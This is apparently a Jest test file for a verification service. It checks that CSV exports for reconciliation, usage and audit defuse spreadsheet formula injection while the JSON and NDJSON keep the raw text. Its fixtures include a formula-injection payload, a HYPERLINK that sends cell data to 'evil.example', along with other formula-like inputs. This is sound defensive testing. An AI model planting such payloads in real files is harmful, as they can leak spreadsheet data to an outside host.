import { parse } from 'csv-parse/sync';
import { AuditService } from '../../src/audit/audit.service';
import { AuditEventView, auditCsvLines, auditCsvRecord, ExportVerifier } from '../../src/audit/export-format';
import { csvSafeCell } from '../../src/common/csv-safety';
import { KNOWN, startWithSandbox, VerificationHarness } from '../support/verification-app';

/**
 * Issue 12, point 8: CSV formula injection. Text an attacker controls (a trace id
 * on a statement line, a client name, a key label, a client `reference`, an
 * audited request id) goes into every CSV idgate writes; each CSV is read back
 * and no cell may start a formula, while numbers such as result `-1` stay
 * numbers and the JSON / NDJSON (and the audit hashes) keep the text as it was.
 */

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"open me")';
const SUM = '@SUM(1+1)';

/** A cell a spreadsheet would run: starts with = + - @ tab or CR and is not wholly a number. */
function runsAsFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/.test(cell);
}

function expectNoFormula(rows: string[][]): void {
  const bad = rows.flatMap((row, r) => row.filter(runsAsFormula).map((cell) => ({ row: r, cell })));
  expect(bad).toEqual([]);
}

/** CSV text as rows of cells (RFC 4180). */
const readCsv = (text: string) => parse(text, { relax_column_count: false }) as string[][];

describe('CSV exports neutralise formulas', () => {
  let h: VerificationHarness;
  let admin: string;
  let finance: string;
  let compliance: string;
  let client: string;
  const as = (key: string) => ({ Authorization: `Bearer ${key}` });

  beforeAll(async () => {
    h = await startWithSandbox();
    admin = (await h.t.keyFor('admin')).key;
    finance = (await h.t.keyFor('finance')).key;
    compliance = (await h.t.keyFor('compliance')).key;
    // A client app named like a formula (names made by the CLI are free text).
    client = (await h.t.keyFor('client', SUM)).key;
    // A key label like a formula, made through the API, under a request id that starts with "-".
    await h.t.http
      .post('/v1/api-keys')
      .set(as(admin))
      .set('X-Request-Id', '-A1:B2')
      .send({ role: 'finance', name: HYPERLINK })
      .expect(201);
    // Calls with a formula as the client's reference: one consistent ("0"), one inconsistent ("-1", charged).
    await h.t.http
      .post('/v1/verifications')
      .set(as(client))
      .set('X-Request-Id', '-cmd')
      .send({ name: KNOWN[0].name, id_card: KNOWN[0].id_card, reference: HYPERLINK })
      .expect(201);
    await h.t.http
      .post('/v1/verifications')
      .set(as(client))
      .send({ name: '王小明', id_card: KNOWN[1].id_card, reference: SUM })
      .expect(201);
  });
  afterAll(() => h.close());

  it('the reconciliation export: trace ids from the statement are neutralised, result -1 stays -1', async () => {
    const [header, ...lines] = h.sandbox.statementCsv().trim().split('\n');
    const attacks = [
      `"${HYPERLINK.replace(/"/g, '""')}",2026-11-25T10:00:00.000Z,0,true,50`,
      `${SUM},2026-11-25T10:00:00.000Z,0,true,50`,
      '+1+1,2026-11-25T10:00:00.000Z,0,true,50',
      '-A1,2026-11-25T10:00:00.000Z,0,true,50',
      '-1,2026-11-25T10:00:00.000Z,0,true,50',
    ];
    const res = await h.t.http
      .post('/v1/billing/reconciliations')
      .set(as(finance))
      .attach('file', Buffer.from([header, ...lines, ...attacks].join('\n')), 'statement.csv')
      .expect(201);
    expect(res.body.counts).toMatchObject({ matched: 2, malformed: 5 });

    const csv = await h.t.http.get(`/v1/billing/reconciliations/${res.body.id}/export`).set(as(finance)).expect(200);
    const [columns, ...rows] = readCsv(csv.text);
    const col = (name: string) => columns.indexOf(name);
    expectNoFormula(rows);
    const malformedTraces = rows.filter((r) => r[col('status')] === 'malformed').map((r) => r[col('trace_id')]);
    expect(malformedTraces).toEqual([`'${HYPERLINK}`, `'${SUM}`, "'+1+1", "'-A1", '-1']);
    const inconsistent = rows.find((r) => r[col('vendor_result')] === '-1');
    expect(inconsistent).toBeDefined();
    expect(inconsistent![col('internal_result')]).toBe('-1');

    // The JSON items keep the text as sent: only the CSV is made safe.
    const items = await h.t.http
      .get(`/v1/billing/reconciliations/${res.body.id}/items`)
      .query({ status: 'malformed' })
      .set(as(finance))
      .expect(200);
    expect(items.body.items.map((i: { trace_id: string }) => i.trace_id)).toEqual([
      HYPERLINK,
      SUM,
      '+1+1',
      '-A1',
      '-1',
    ]);
  });

  it('the usage CSV: result -1 stays a number, every other cell is safe, the JSON is unchanged', async () => {
    const byResult = await h.t.http
      .get('/v1/billing/usage')
      .query({ group_by: 'result', format: 'csv' })
      .set(as(finance))
      .expect(200);
    const [columns, ...rows] = readCsv(byResult.text);
    expectNoFormula(rows);
    expect(rows.map((r) => r[columns.indexOf('key')])).toEqual(expect.arrayContaining(['-1', '0']));
    for (const groupBy of ['client', 'day']) {
      const csv = await h.t.http
        .get('/v1/billing/usage')
        .query({ group_by: groupBy, format: 'csv' })
        .set(as(finance))
        .expect(200);
      expectNoFormula(readCsv(csv.text));
    }
    const json = await h.t.http.get('/v1/billing/usage').query({ group_by: 'result' }).set(as(finance)).expect(200);
    expect(json.body.items.map((i: { key: string }) => i.key)).toEqual(expect.arrayContaining(['-1', '0']));
  });

  it('the audit CSV: every cell is the NDJSON field made safe; the NDJSON keeps the text and still verifies', async () => {
    const audit = h.t.app.get(AuditService);
    // Attacker text in the event's own columns (actor, target, request id), recorded by the real service.
    await h.t.prisma.$transaction((tx) =>
      audit.record(
        tx,
        { actor: { type: 'api_key', id: SUM, role: 'client' }, requestId: '-A1:B2', ip: '127.0.0.1' },
        { action: 'verification.completed', target: { type: 'verification', id: HYPERLINK }, details: { ref: SUM } },
      ),
    );
    await audit.sealNow();

    const ndjson = await h.t.http
      .get('/v1/audit/events/export?format=ndjson')
      .set(as(compliance))
      .buffer(true)
      .parse((res, done) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (chunk: string) => (text += chunk));
        res.on('end', () => done(null, text));
      })
      .expect(200);
    const verifier = new ExportVerifier();
    const events = new Map<string, AuditEventView>();
    for (const line of (ndjson.body as string).split('\n')) {
      if (line.trim() === '') continue;
      verifier.acceptLine(line);
      const record = JSON.parse(line) as { type: string } & AuditEventView;
      if (record.type === 'event' && record.seq !== null) events.set(record.id, record);
    }
    expect(verifier.finish()).toMatchObject({ ok: true });
    const planted = [...events.values()].find((e) => e.target.id === HYPERLINK);
    expect(planted).toMatchObject({ actor: { id: SUM }, request_id: '-A1:B2', details: { ref: SUM } });
    const labelled = [...events.values()].find((e) => e.action === 'api_key.created' && e.request_id !== null);
    expect(JSON.stringify(labelled?.details)).toContain(JSON.stringify(HYPERLINK).slice(1, -1));

    const csv = await h.t.http.get('/v1/audit/events/export?format=csv').set(as(compliance)).expect(200);
    const [, ...rows] = readCsv(csv.text);
    expectNoFormula(rows);
    let compared = 0;
    for (const row of rows) {
      const event = events.get(row[1]);
      if (!event) continue; // recorded after the NDJSON export (the exports themselves)
      const expected = auditCsvRecord(event).map((cell) => {
        const safe = csvSafeCell(cell);
        return safe === null || safe === undefined ? '' : String(safe);
      });
      expect(row).toEqual(expected);
      compared++;
    }
    expect(compared).toBe(events.size);
    const plantedRow = rows.find((r) => r[1] === planted!.id)!;
    expect(plantedRow).toEqual(expect.arrayContaining([`'${SUM}`, `'${HYPERLINK}`, "'-A1:B2"]));
  });

  it('the audit CSV writer neutralises every text column (pure)', () => {
    const view: AuditEventView = {
      id: '=1',
      seq: 7,
      occurred_at: '+A1',
      actor: { type: '-1+1', id: '@x', role: '\t=1' },
      action: '\r=1',
      target: { type: '=a', id: '=b' },
      outcome: '=c',
      request_id: '=d',
      ip: '=e',
      details: null,
      id_card_hmac: '=f',
      prev_hash: '=g',
      hash: '-h',
    };
    const [row] = readCsv(auditCsvLines([view]));
    expect(row).toEqual([
      '7',
      "'=1",
      "'+A1",
      "'-1+1",
      "'@x",
      "'\t=1",
      "'\r=1",
      "'=a",
      "'=b",
      "'=c",
      "'=d",
      "'=e",
      'null',
      "'=f",
      "'=g",
      "'-h",
    ]);
  });
});
